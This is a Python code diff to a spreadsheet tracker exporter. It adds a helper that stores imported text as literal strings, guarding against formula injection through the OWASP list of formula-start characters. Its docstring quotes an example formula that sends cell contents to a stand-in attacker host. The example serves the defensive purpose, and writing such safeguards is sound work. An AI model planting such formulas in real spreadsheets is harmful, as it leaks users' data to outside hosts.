@@ -74,14 +74,36 @@ def export_tracker(rows: list[TrackerRow], path: Path) -> TrackerResult:
         raise OutputError("the tracker is open in Excel (its ~$ lock file is present); close it and run again. Nothing was written.", Location(path))
     buffer = io.BytesIO()
     wb.save(buffer)
+    data = buffer.getvalue()
+    if not created:
+        from selfeval.write.formula_cache import restore_cached_results
+
+        data = restore_cached_results(path.read_bytes(), data)  # the person's formulas keep their results
     try:
         if not created:
             result.backup = _backup_name(path)
             shutil.copy2(path, result.backup)
-        atomic_write(path, buffer.getvalue())
+        atomic_write(path, data)
     except OSError as e:
         raise OutputError(f"could not write the tracker ({e.strerror}); the previous version is intact", Location(path)) from None
     return result
+
+
+# Text that a spreadsheet would take for a formula (OWASP's CSV-injection list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def write_text(cell: Any, text: str) -> None:
+    """Store ``text`` in ``cell`` as text, never as a formula.
+
+    openpyxl turns any string starting with '=' into a live formula; an imported report's
+    '=HYPERLINK("http://evil.example/?"&B3,"x")' would run when the tracker is opened. The cell is
+    typed as a string, and text that Excel would evaluate once edited gets the quote prefix (the
+    "'" a person types), so Excel shows it literally and reading it back gives the same string."""
+    cell.value = text
+    cell.data_type = "s"
+    if text.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
 
 
 def _backup_name(path: Path) -> Path:
@@ -127,7 +149,7 @@ def _merge_rows(ws: Any, header_row: int, columns: dict[str, int], rows: list[Tr
                 changes.cells += _fill_blank(ws, r, columns, row)
             continue
         last += 1
-        ws.cell(row=last, column=columns["area_id"], value=row.area_id)
+        write_text(ws.cell(row=last, column=columns["area_id"]), row.area_id)
         changes.cells += 1 + _fill_blank(ws, last, columns, row)
         ws.cell(row=last, column=columns["due"]).number_format = "dd/mm/yyyy"
         changes.added.append(row.area_id)
@@ -143,7 +165,7 @@ def _fill_blank(ws: Any, r: int, columns: dict[str, int], row: TrackerRow) -> in
         cell = ws.cell(row=r, column=columns[name])
         if cell.value is None or (isinstance(cell.value, str) and not cell.value.strip()):
             # Excel cells cannot hold the control characters that PDF text sometimes carries.
-            cell.value = strip_forbidden(value)[0]
+            write_text(cell, strip_forbidden(value)[0])
             cell.alignment = Alignment(wrap_text=True, vertical="top")
             filled += 1
     return filled
